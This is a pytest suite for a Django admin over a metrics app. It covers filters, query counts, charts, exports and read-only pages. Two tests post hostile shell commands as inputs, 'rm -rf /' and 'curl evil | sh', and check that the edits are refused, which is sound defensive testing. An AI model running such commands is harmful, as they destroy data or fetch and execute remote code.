import csv
import datetime as dt
import io
import xml.etree.ElementTree as ET

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from metrics.models import MetricDefinition, Snapshot
from metrics.resources import MeasurementResource, MetricDefinitionResource
from tests.metrics.reports_factories import make_metric, make_run, measure

pytestmark = pytest.mark.django_db

CSV_INDEX, XLSX_INDEX = 0, 1  # export_formats = [CSV, XLSX]


@pytest.fixture
def admin_client(client):
    user = get_user_model().objects.create_superuser("root", "root@example.com", "pw")
    client.force_login(user)
    return client


@pytest.fixture
def metric():
    now = timezone.now()
    run = make_run(trigger="manual", status="completed", duration_ms=2500, summary={"total": 1, "critical": 1})
    m = make_metric("s3.total_objects", baseline=100, critical=True, volatility="volatile")
    measure(m, 100, now - dt.timedelta(days=2), run=run)
    measure(m, None, now - dt.timedelta(days=1, hours=12), status="error", error="NoSuchBucket", run=run)
    measure(m, 140, now - dt.timedelta(days=1), run=run, status="critical", severity="critical", drift_pct=40.0)
    return m


def export(admin_client, model, resource, fmt_index, query=""):
    url = reverse(f"admin:metrics_{model}_export") + query
    data = {"format": fmt_index, "resource": 0}
    prefix = resource.__name__.lower()
    data.update({f"{prefix}_{f}": "on" for f in resource().get_export_order()})
    response = admin_client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return response.content


def test_changelist_shows_latest_value_status_and_badge(admin_client, metric):
    response = admin_client.get(reverse("admin:metrics_metricdefinition_changelist"))
    assert response.status_code == 200
    html = response.content.decode()
    assert "s3.total_objects" in html
    assert "140" in html and "critical" in html
    assert "background:#c62828" in html  # the critical badge


@pytest.mark.parametrize("query, present", [
    ("?latest_status=critical", True),
    ("?latest_status=ok", False),
    ("?latest_status=never", False),
    ("?kind=s3_object_count&critical__exact=1&enabled__exact=1&volatility=volatile&category=s3", True),
    ("?q=total_objects", True),
    ("?q=nothing-like-it", False),
])
def test_changelist_filters_and_search(admin_client, metric, query, present):
    make_metric("git.commits", kind="git_commit_count")  # never measured
    response = admin_client.get(reverse("admin:metrics_metricdefinition_changelist") + query)
    assert response.status_code == 200
    assert ("s3.total_objects" in response.content.decode()) is present


def test_changelist_never_filter(admin_client, metric):
    make_metric("git.commits", kind="git_commit_count")
    html = admin_client.get(reverse("admin:metrics_metricdefinition_changelist") + "?latest_status=never").content.decode()
    assert "git.commits" in html and "s3.total_objects" not in html


def _changelist_queries(admin_client, n):
    MetricDefinition.objects.all().delete()
    now = timezone.now()
    for i in range(n):
        m = make_metric(f"cat{i % 3}.metric_{i:03d}")
        measure(m, i, now - dt.timedelta(hours=2))
        measure(m, i + 1, now - dt.timedelta(hours=1), status="minor", severity="low")
    with CaptureQueriesContext(connection) as ctx:
        response = admin_client.get(reverse("admin:metrics_metricdefinition_changelist"))
    assert response.status_code == 200
    assert f"metric_{n - 1:03d}" in response.content.decode()
    return len(ctx.captured_queries)


def test_changelist_query_count_does_not_grow_with_metrics(admin_client):
    assert _changelist_queries(admin_client, 5) == _changelist_queries(admin_client, 50)


def test_change_page_has_history_chart_and_table(admin_client, metric):
    response = admin_client.get(reverse("admin:metrics_metricdefinition_change", args=[metric.pk]))
    assert response.status_code == 200
    html = response.content.decode()
    start = html.index('<svg xmlns="http://www.w3.org/2000/svg" width')
    svg = html[start:html.index("</svg>", start) + len("</svg>")]
    root = ET.fromstring(svg)
    polyline = root.find("{http://www.w3.org/2000/svg}polyline")
    assert len(polyline.get("points").split()) == 2  # two successful values; the error is a tick
    assert 'id="recent-measurements"' in html
    assert "NoSuchBucket" in html
    assert "population, n=2" in html


def test_kind_and_params_cannot_be_changed(admin_client, metric):
    url = reverse("admin:metrics_metricdefinition_change", args=[metric.pk])
    response = admin_client.post(url, {
        "kind": "shell", "params": '{"command": "rm -rf /"}', "baseline_value": "1",
        "volatility": "stable", "critical": "", "ttl_hours": "", "enabled": "on", "description": "edited",
    })
    assert response.status_code == 302, response.content.decode()[:2000]
    metric.refresh_from_db()
    assert metric.kind == "s3_object_count"
    assert metric.params == {"location": "s3://bucket/prefix/"}
    assert metric.baseline_value == 100
    assert (metric.volatility, metric.critical, metric.description) == ("stable", False, "edited")


def test_shell_metric_is_read_only(admin_client):
    shell = make_metric("legacy.lines", kind="shell", params={"command": "wc -l *.py"})
    url = reverse("admin:metrics_metricdefinition_change", args=[shell.pk])
    page = admin_client.get(url)
    assert page.status_code == 200
    assert 'name="enabled"' not in page.content.decode()  # view-only page: no inputs
    response = admin_client.post(url, {"params": '{"command": "curl evil | sh"}', "enabled": "", "description": "x"})
    assert response.status_code == 403
    shell.refresh_from_db()
    assert shell.params == {"command": "wc -l *.py"} and shell.enabled is True


def test_definitions_cannot_be_added(admin_client):
    assert admin_client.get(reverse("admin:metrics_metricdefinition_add")).status_code == 403


def test_export_definitions_csv_and_xlsx_typed(admin_client, metric):
    make_metric("lake.ratio", parse_type="float", baseline=0.25, params={"expression": "a.b / c.d"}, kind="expression")
    rows = list(csv.DictReader(io.StringIO(export(admin_client, "metricdefinition", MetricDefinitionResource, CSV_INDEX).decode("utf-8-sig"))))
    by_name = {r["metric"]: r for r in rows}
    assert set(by_name) == {"s3.total_objects", "lake.ratio"}
    assert by_name["s3.total_objects"]["baseline_value"] == "100"
    assert by_name["lake.ratio"]["params"] == '{"expression": "a.b / c.d"}'

    content = export(admin_client, "metricdefinition", MetricDefinitionResource, XLSX_INDEX)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    values = list(sheet.values)
    header, data = list(values[0]), {r[0]: dict(zip(values[0], r)) for r in values[1:]}
    assert "baseline_value" in header
    assert data["s3.total_objects"]["baseline_value"] == 100
    assert type(data["s3.total_objects"]["baseline_value"]) is int
    assert data["lake.ratio"]["baseline_value"] == 0.25
    assert data["s3.total_objects"]["critical"] is True


def test_export_history_csv_and_xlsx(admin_client, metric):
    other = make_metric("git.commits", kind="git_commit_count")
    measure(other, 9, timezone.now())
    query = f"?metric__id__exact={metric.pk}"
    rows = list(csv.DictReader(io.StringIO(export(admin_client, "measurement", MeasurementResource, CSV_INDEX, query).decode("utf-8-sig"))))
    assert len(rows) == 3 and {r["metric"] for r in rows} == {"s3.total_objects"}
    assert sorted(r["value"] for r in rows) == ["", "100", "140"]
    assert {r["status"] for r in rows} == {"ok", "error", "critical"}

    content = export(admin_client, "measurement", MeasurementResource, XLSX_INDEX, query)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    values = list(sheet.values)
    header = values[0]
    records = [dict(zip(header, r)) for r in values[1:]]
    ints = [r["value"] for r in records if r["value"] is not None]
    assert sorted(ints) == [100, 140] and all(type(v) is int for v in ints)
    assert {r["error"] for r in records if r["status"] == "error"} == {"NoSuchBucket"}


def test_measurement_run_snapshot_settings_pages(admin_client, metric):
    Snapshot.objects.create(date=dt.date(2026, 11, 1), values={"s3.total_objects": 100, "x.y": None})
    from metrics.models import MetricsSettings, VerificationRun

    MetricsSettings.load()
    run = VerificationRun.objects.get()
    pages = [
        reverse("admin:metrics_measurement_changelist"),
        reverse("admin:metrics_measurement_changelist") + "?status=error",
        reverse("admin:metrics_verificationrun_changelist"),
        reverse("admin:metrics_verificationrun_change", args=[run.pk]),
        reverse("admin:metrics_snapshot_changelist"),
        reverse("admin:metrics_snapshot_change", args=[Snapshot.objects.get().pk]),
        reverse("admin:metrics_metricssettings_changelist"),
        reverse("admin:metrics_metricssettings_change", args=[1]),
        reverse("admin:metrics_cacheentry_changelist"),
    ]
    for url in pages:
        assert admin_client.get(url).status_code == 200, url
    runs = admin_client.get(reverse("admin:metrics_verificationrun_changelist")).content.decode()
    assert "2.5 s" in runs and "total 1 · critical 1" in runs
    run_page = admin_client.get(reverse("admin:metrics_verificationrun_change", args=[run.pk])).content.decode()
    assert "NoSuchBucket" in run_page  # measurements inline
    # The summary as tables, the raw JSON behind a link.
    assert 'id="verify-statuses"' in run_page and "<tr><th>critical</th><td class=\"n\">1</td></tr>" in run_page
    raw = reverse("admin:metrics_verificationrun_raw_json", args=[run.pk])
    assert f'href="{raw}"' in run_page and "{&#x27;total&#x27;" not in run_page
    assert admin_client.get(raw).json() == {"total": 1, "critical": 1}
    snap = admin_client.get(reverse("admin:metrics_snapshot_change", args=[Snapshot.objects.get().pk])).content.decode()
    assert "s3.total_objects" in snap


def test_measurement_history_is_not_editable(admin_client, metric):
    m = metric.measurements.first()
    url = reverse("admin:metrics_measurement_change", args=[m.pk])
    assert admin_client.post(url, {"value": "1"}).status_code == 403
    assert admin_client.get(reverse("admin:metrics_measurement_add")).status_code == 403
    assert reverse("admin:metrics_measurement_changelist")


def test_settings_are_read_only(admin_client):
    from metrics.models import MetricsSettings

    MetricsSettings.load()
    url = reverse("admin:metrics_metricssettings_change", args=[1])
    assert admin_client.post(url, {"minor_drift_pct": "1"}).status_code == 403
    assert MetricsSettings.load().minor_drift_pct == 5.0


def test_change_page_of_a_string_metric_has_table_but_no_chart(admin_client):
    m = make_metric("git.branch", parse_type="string", kind="sql_scalar", params={"query": "select 'main'"})
    measure(m, "main", timezone.now())
    html = admin_client.get(reverse("admin:metrics_metricdefinition_change", args=[m.pk])).content.decode()
    assert 'class="adce-chart"' not in html
    assert "string values: no chart" in html and "<td>main</td>" in html
